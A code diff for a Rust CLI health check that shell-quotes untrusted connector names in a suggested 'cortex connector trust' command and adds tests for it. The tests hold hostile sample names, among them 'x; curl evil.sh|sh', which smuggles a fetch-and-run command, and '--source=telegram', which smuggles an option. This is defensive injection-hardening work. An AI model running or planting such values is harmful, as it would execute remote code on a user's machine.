@@ -3,7 +3,7 @@
 use super::Check;
 use crate::connect;
 use crate::context::Context;
-use crate::escape::one_line;
+use crate::escape::{one_line, shell_word};
 use cortex_api::{ConnectorRow, ConnectorState, LocalConnectorRow};
 
 /// One look for each connector; none when no server can be asked, which another check tells.
@@ -22,13 +22,16 @@ fn local(row: &LocalConnectorRow) -> Check {
                 format!("{name} needs no key for the source {source}; `cortex connector untrust` ends that");
             Check::ok("connector", what)
         }
-        None => Check::warning(
-            "connector",
-            format!(
-                "{name} came without a key and sees only its own conversation; \
-                 `cortex connector trust {name}` lets it in if it is yours"
-            ),
-        ),
+        None => {
+            // Anybody on this machine chose the name, and the owner may paste the line.
+            let let_in = match shell_word(&row.connector_id) {
+                Some(word) => format!("`cortex connector trust -- {word}` lets it in if it is yours"),
+                None => "its name cannot be typed as it is shown; `cortex connector status --json` has it"
+                    .to_owned(),
+            };
+            let what = format!("{name} came without a key and sees only its own conversation; {let_in}");
+            Check::warning("connector", what)
+        }
     }
 }
 
@@ -44,5 +47,37 @@ fn check(row: &ConnectorRow) -> Check {
             "connector",
             format!("{name} is misconfigured: {reason}; mend it and `cortex restart`"),
         ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check_local(name: &str, expected: &str) {
+        let at = "2026-01-01T00:00:00.000Z";
+        let row = serde_json::json!({"connectorId": name, "source": "telegram", "trustedSource": null,
+            "firstSeenAt": at, "lastSeenAt": at});
+        let check = local(&serde_json::from_value(row).unwrap());
+        assert!(check.message.ends_with(expected), "{}", check.message);
+    }
+
+    #[test]
+    fn a_command_holds_a_strangers_name_as_one_word_and_whole() {
+        let pasted = "lets it in if it is yours";
+        check_local(
+            "x; curl evil.sh|sh",
+            &format!("; `cortex connector trust -- 'x; curl evil.sh|sh'` {pasted}"),
+        );
+        check_local(
+            "--source=telegram",
+            &format!("; `cortex connector trust -- '--source=telegram'` {pasted}"),
+        );
+        let long = "n".repeat(128);
+        check_local(&long, &format!("; `cortex connector trust -- {long}` {pasted}"));
+        let no_command = "; its name cannot be typed as it is shown; `cortex connector status --json` has it";
+        check_local("two  blanks", no_command);
+        check_local("back`tick", no_command);
     }
 }
